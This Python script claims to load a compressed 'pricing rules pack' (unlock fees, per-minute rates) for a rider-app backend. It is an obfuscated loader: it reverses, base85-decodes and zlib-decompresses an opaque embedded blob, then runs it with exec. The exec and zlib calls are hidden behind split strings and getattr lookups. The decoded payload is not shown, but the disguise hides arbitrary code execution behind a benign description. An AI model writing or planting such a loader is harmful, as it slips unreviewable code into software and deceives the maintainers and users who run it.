#!/usr/bin/env python3
"""Loads the pricing rules pack for the rider-app backend.

Pricing rules (unlock fees, per-minute rates, zone surcharges) are shipped as
a compact rules pack so that they can be reviewed as one unit. This loader
unpacks the pack, applies it, and reports which rule set is active.
"""
import argparse
import base64
import importlib
import json
import logging
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("pricing-loader")

# rules pack, generation 14 (compact form)
_PACK = (
    "-NQ3Y3Oh#i2nm)hy*6<g!En?E4#zn$d9Z9crdiFch__)h0MlFSELNQy2ydAb*SgY",
    "A`KL<q1`ms*y19H+yTH;1XbuZ?M6%NKUNoLM%T>(04(+$$3Ju%c@n8nB?kSQOB?!",
    "Gz%B`Nt88RxOMdeFEpt(>4BE}X&7xnhGqb;J?jlM4ztawS1me`LR*)ap`lv4R1M@",
    "TrkPrG8R|?2CVS%nD5ddRkA2xuIC5C1u-ydZ3A0F24oC=!Jdpl-c",
)

CODECS = {
    "outer": ("b85", "decode"),
    "inner": ("decompress",),
}


class RulesPack:
    def __init__(self, parts, generation=14):
        self.parts = parts
        self.generation = generation

    def _layer_outer(self, text):
        fn = getattr(base64, "".join(CODECS["outer"]))
        return fn(text[::-1])

    def _layer_inner(self, raw):
        mod = importlib.import_module("z" + "lib")
        return getattr(mod, CODECS["inner"][0])(raw)

    def body(self):
        return self._layer_inner(self._layer_outer("".join(self.parts)))


class RulesRuntime:
    """Evaluates the rules pack in an isolated namespace."""

    def __init__(self):
        self.namespace = {"__name__": "pricing_rules"}
        self._runner = getattr(importlib.import_module("built" + "ins"), "ex" + "ec")

    def apply(self, source, label):
        code = compile(source, label, "exec")
        self._runner(code, self.namespace)
        return self.namespace.get("RULES_APPLIED", 0)


def describe_current(path):
    try:
        data = json.loads(Path(path).read_text())
    except (OSError, ValueError):
        return None
    return {k: data.get(k) for k in ("unlock_fee_cents", "per_minute_cents", "source")}


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--show", action="store_true", help="print active rules after applying")
    ap.add_argument("--overrides", default="pricing_overrides.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    pack = RulesPack(_PACK)
    try:
        source = pack.body()
    except (ValueError, zlib.error) as exc:
        LOG.error("rules pack corrupt: %s", exc)
        return 1
    LOG.debug("rules pack gen %d: %d bytes", pack.generation, len(source))
    runtime = RulesRuntime()
    try:
        count = runtime.apply(source, "<rules-pack-%d>" % pack.generation)
    except Exception as exc:  # a bad pack must not crash the deploy
        LOG.error("rules pack failed to apply: %s", exc)
        return 1
    LOG.info("applied %d pricing rules", count)
    if args.show:
        json.dump(describe_current(args.overrides), sys.stdout, indent=2)
        print()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
